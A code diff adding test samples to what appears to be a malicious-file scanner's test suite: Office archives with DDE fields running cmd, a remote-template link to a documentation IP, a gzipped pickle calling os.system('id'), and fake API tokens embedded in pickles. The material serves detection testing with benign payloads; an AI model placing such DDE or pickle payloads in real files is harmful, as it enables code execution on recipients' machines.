@@ -2,11 +2,24 @@
 
 from __future__ import annotations
 
+import gzip
+import io
 import json
+import zipfile
 from collections.abc import Iterator
 from typing import Any
 
 from tests.scanning.sample import Sample, benign, malicious
+
+
+def archive(members: dict[str, bytes]) -> bytes:
+    """A ZIP archive of some members."""
+    kept = io.BytesIO()
+    with zipfile.ZipFile(kept, "w") as made:
+        for name, content in members.items():
+            made.writestr(zipfile.ZipInfo(name), content)
+    return kept.getvalue()
+
 
 _ADDRESS = "http://203.0.113.9/x"
 DOCUMENTS: dict[str, tuple[str, str]] = {
@@ -93,8 +106,51 @@ PLAIN: dict[str, tuple[str, Any]] = {
 }  # fmt: skip
 
 
+_RELATION = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
+    'Target="http://203.0.113.9/x" TargetMode="External"/></Relationships>'
+)
+_OFFICE = {
+    "template": ("word/_rels/settings.xml.rels", _RELATION.format("attachedTemplate")),
+    "field": ("word/document.xml", '<w:document xmlns:w="x"><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:document>'),
+    "link": ("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
+    "macro": ("Basic/Standard/Module1.xml", '<script:module xmlns:script="x">Sub Main\nEnd Sub</script:module>'),
+    "vba": ("word/vbaProject.bin", "\u00d0"),
+}  # fmt: skip
+_WRONG_SUM = gzip.compress(b"cos\nsystem\n(S'id'\ntR.", mtime=0)[:-8] + bytes(8)
+_TOKEN = "sk-" + "a1B2c3D4e5F6g7H8i9J0" + "T3BlbkFJ" + "K1l2M3n4O5p6Q7r8S9t0"
+BINARY: dict[str, tuple[str, bytes]] = {
+    "java-objects": ("model.ser", b"\xac\xed\x00\x05sr" + bytes(40)),
+    "macros-of-old-office": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(200)),
+    "rtf-object": ("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
+    "pickle-before-a-wrong-sum": ("model.pkl", _WRONG_SUM),
+    "token-in-pickle-of-torch": ("model.pkl", b"\x80\x02}q\x00(X\x03\0\0\0keyq\x01X" + len(_TOKEN).to_bytes(4, "little") + _TOKEN.encode() + b"q\x02X\x04\0\0\0nextq\x03K\x01u."),
+    "token-in-pickle-4": ("model.pkl", b"\x80\x04\x8c" + bytes([len(_TOKEN)]) + _TOKEN.encode() + b"\x94."),
+    "token-in-pickle-0": ("model.pkl", b"V" + _TOKEN.encode() + b"\np0\n."),
+}  # fmt: skip
+
+
 def samples() -> Iterator[Sample]:
     """Every sample of this family."""
+    for name, (path, content) in BINARY.items():
+        yield malicious(name, path, content)
+    for name, (path, text) in _OFFICE.items():
+        yield malicious(
+            f"office-{name}",
+            "a.docx",
+            archive({"[Content_Types].xml": b"<Types/>", path: text.encode()}),
+        )
+    yield benign(
+        "office-link",
+        "a.docx",
+        archive(
+            {
+                "[Content_Types].xml": b"<Types/>",
+                "word/_rels/document.xml.rels": _RELATION.format("hyperlink").encode(),
+            }
+        ),
+    )
     for name, (path, text) in DOCUMENTS.items():
         yield malicious(name, path, text.encode())
     for name, (path, value) in SETTINGS.items():
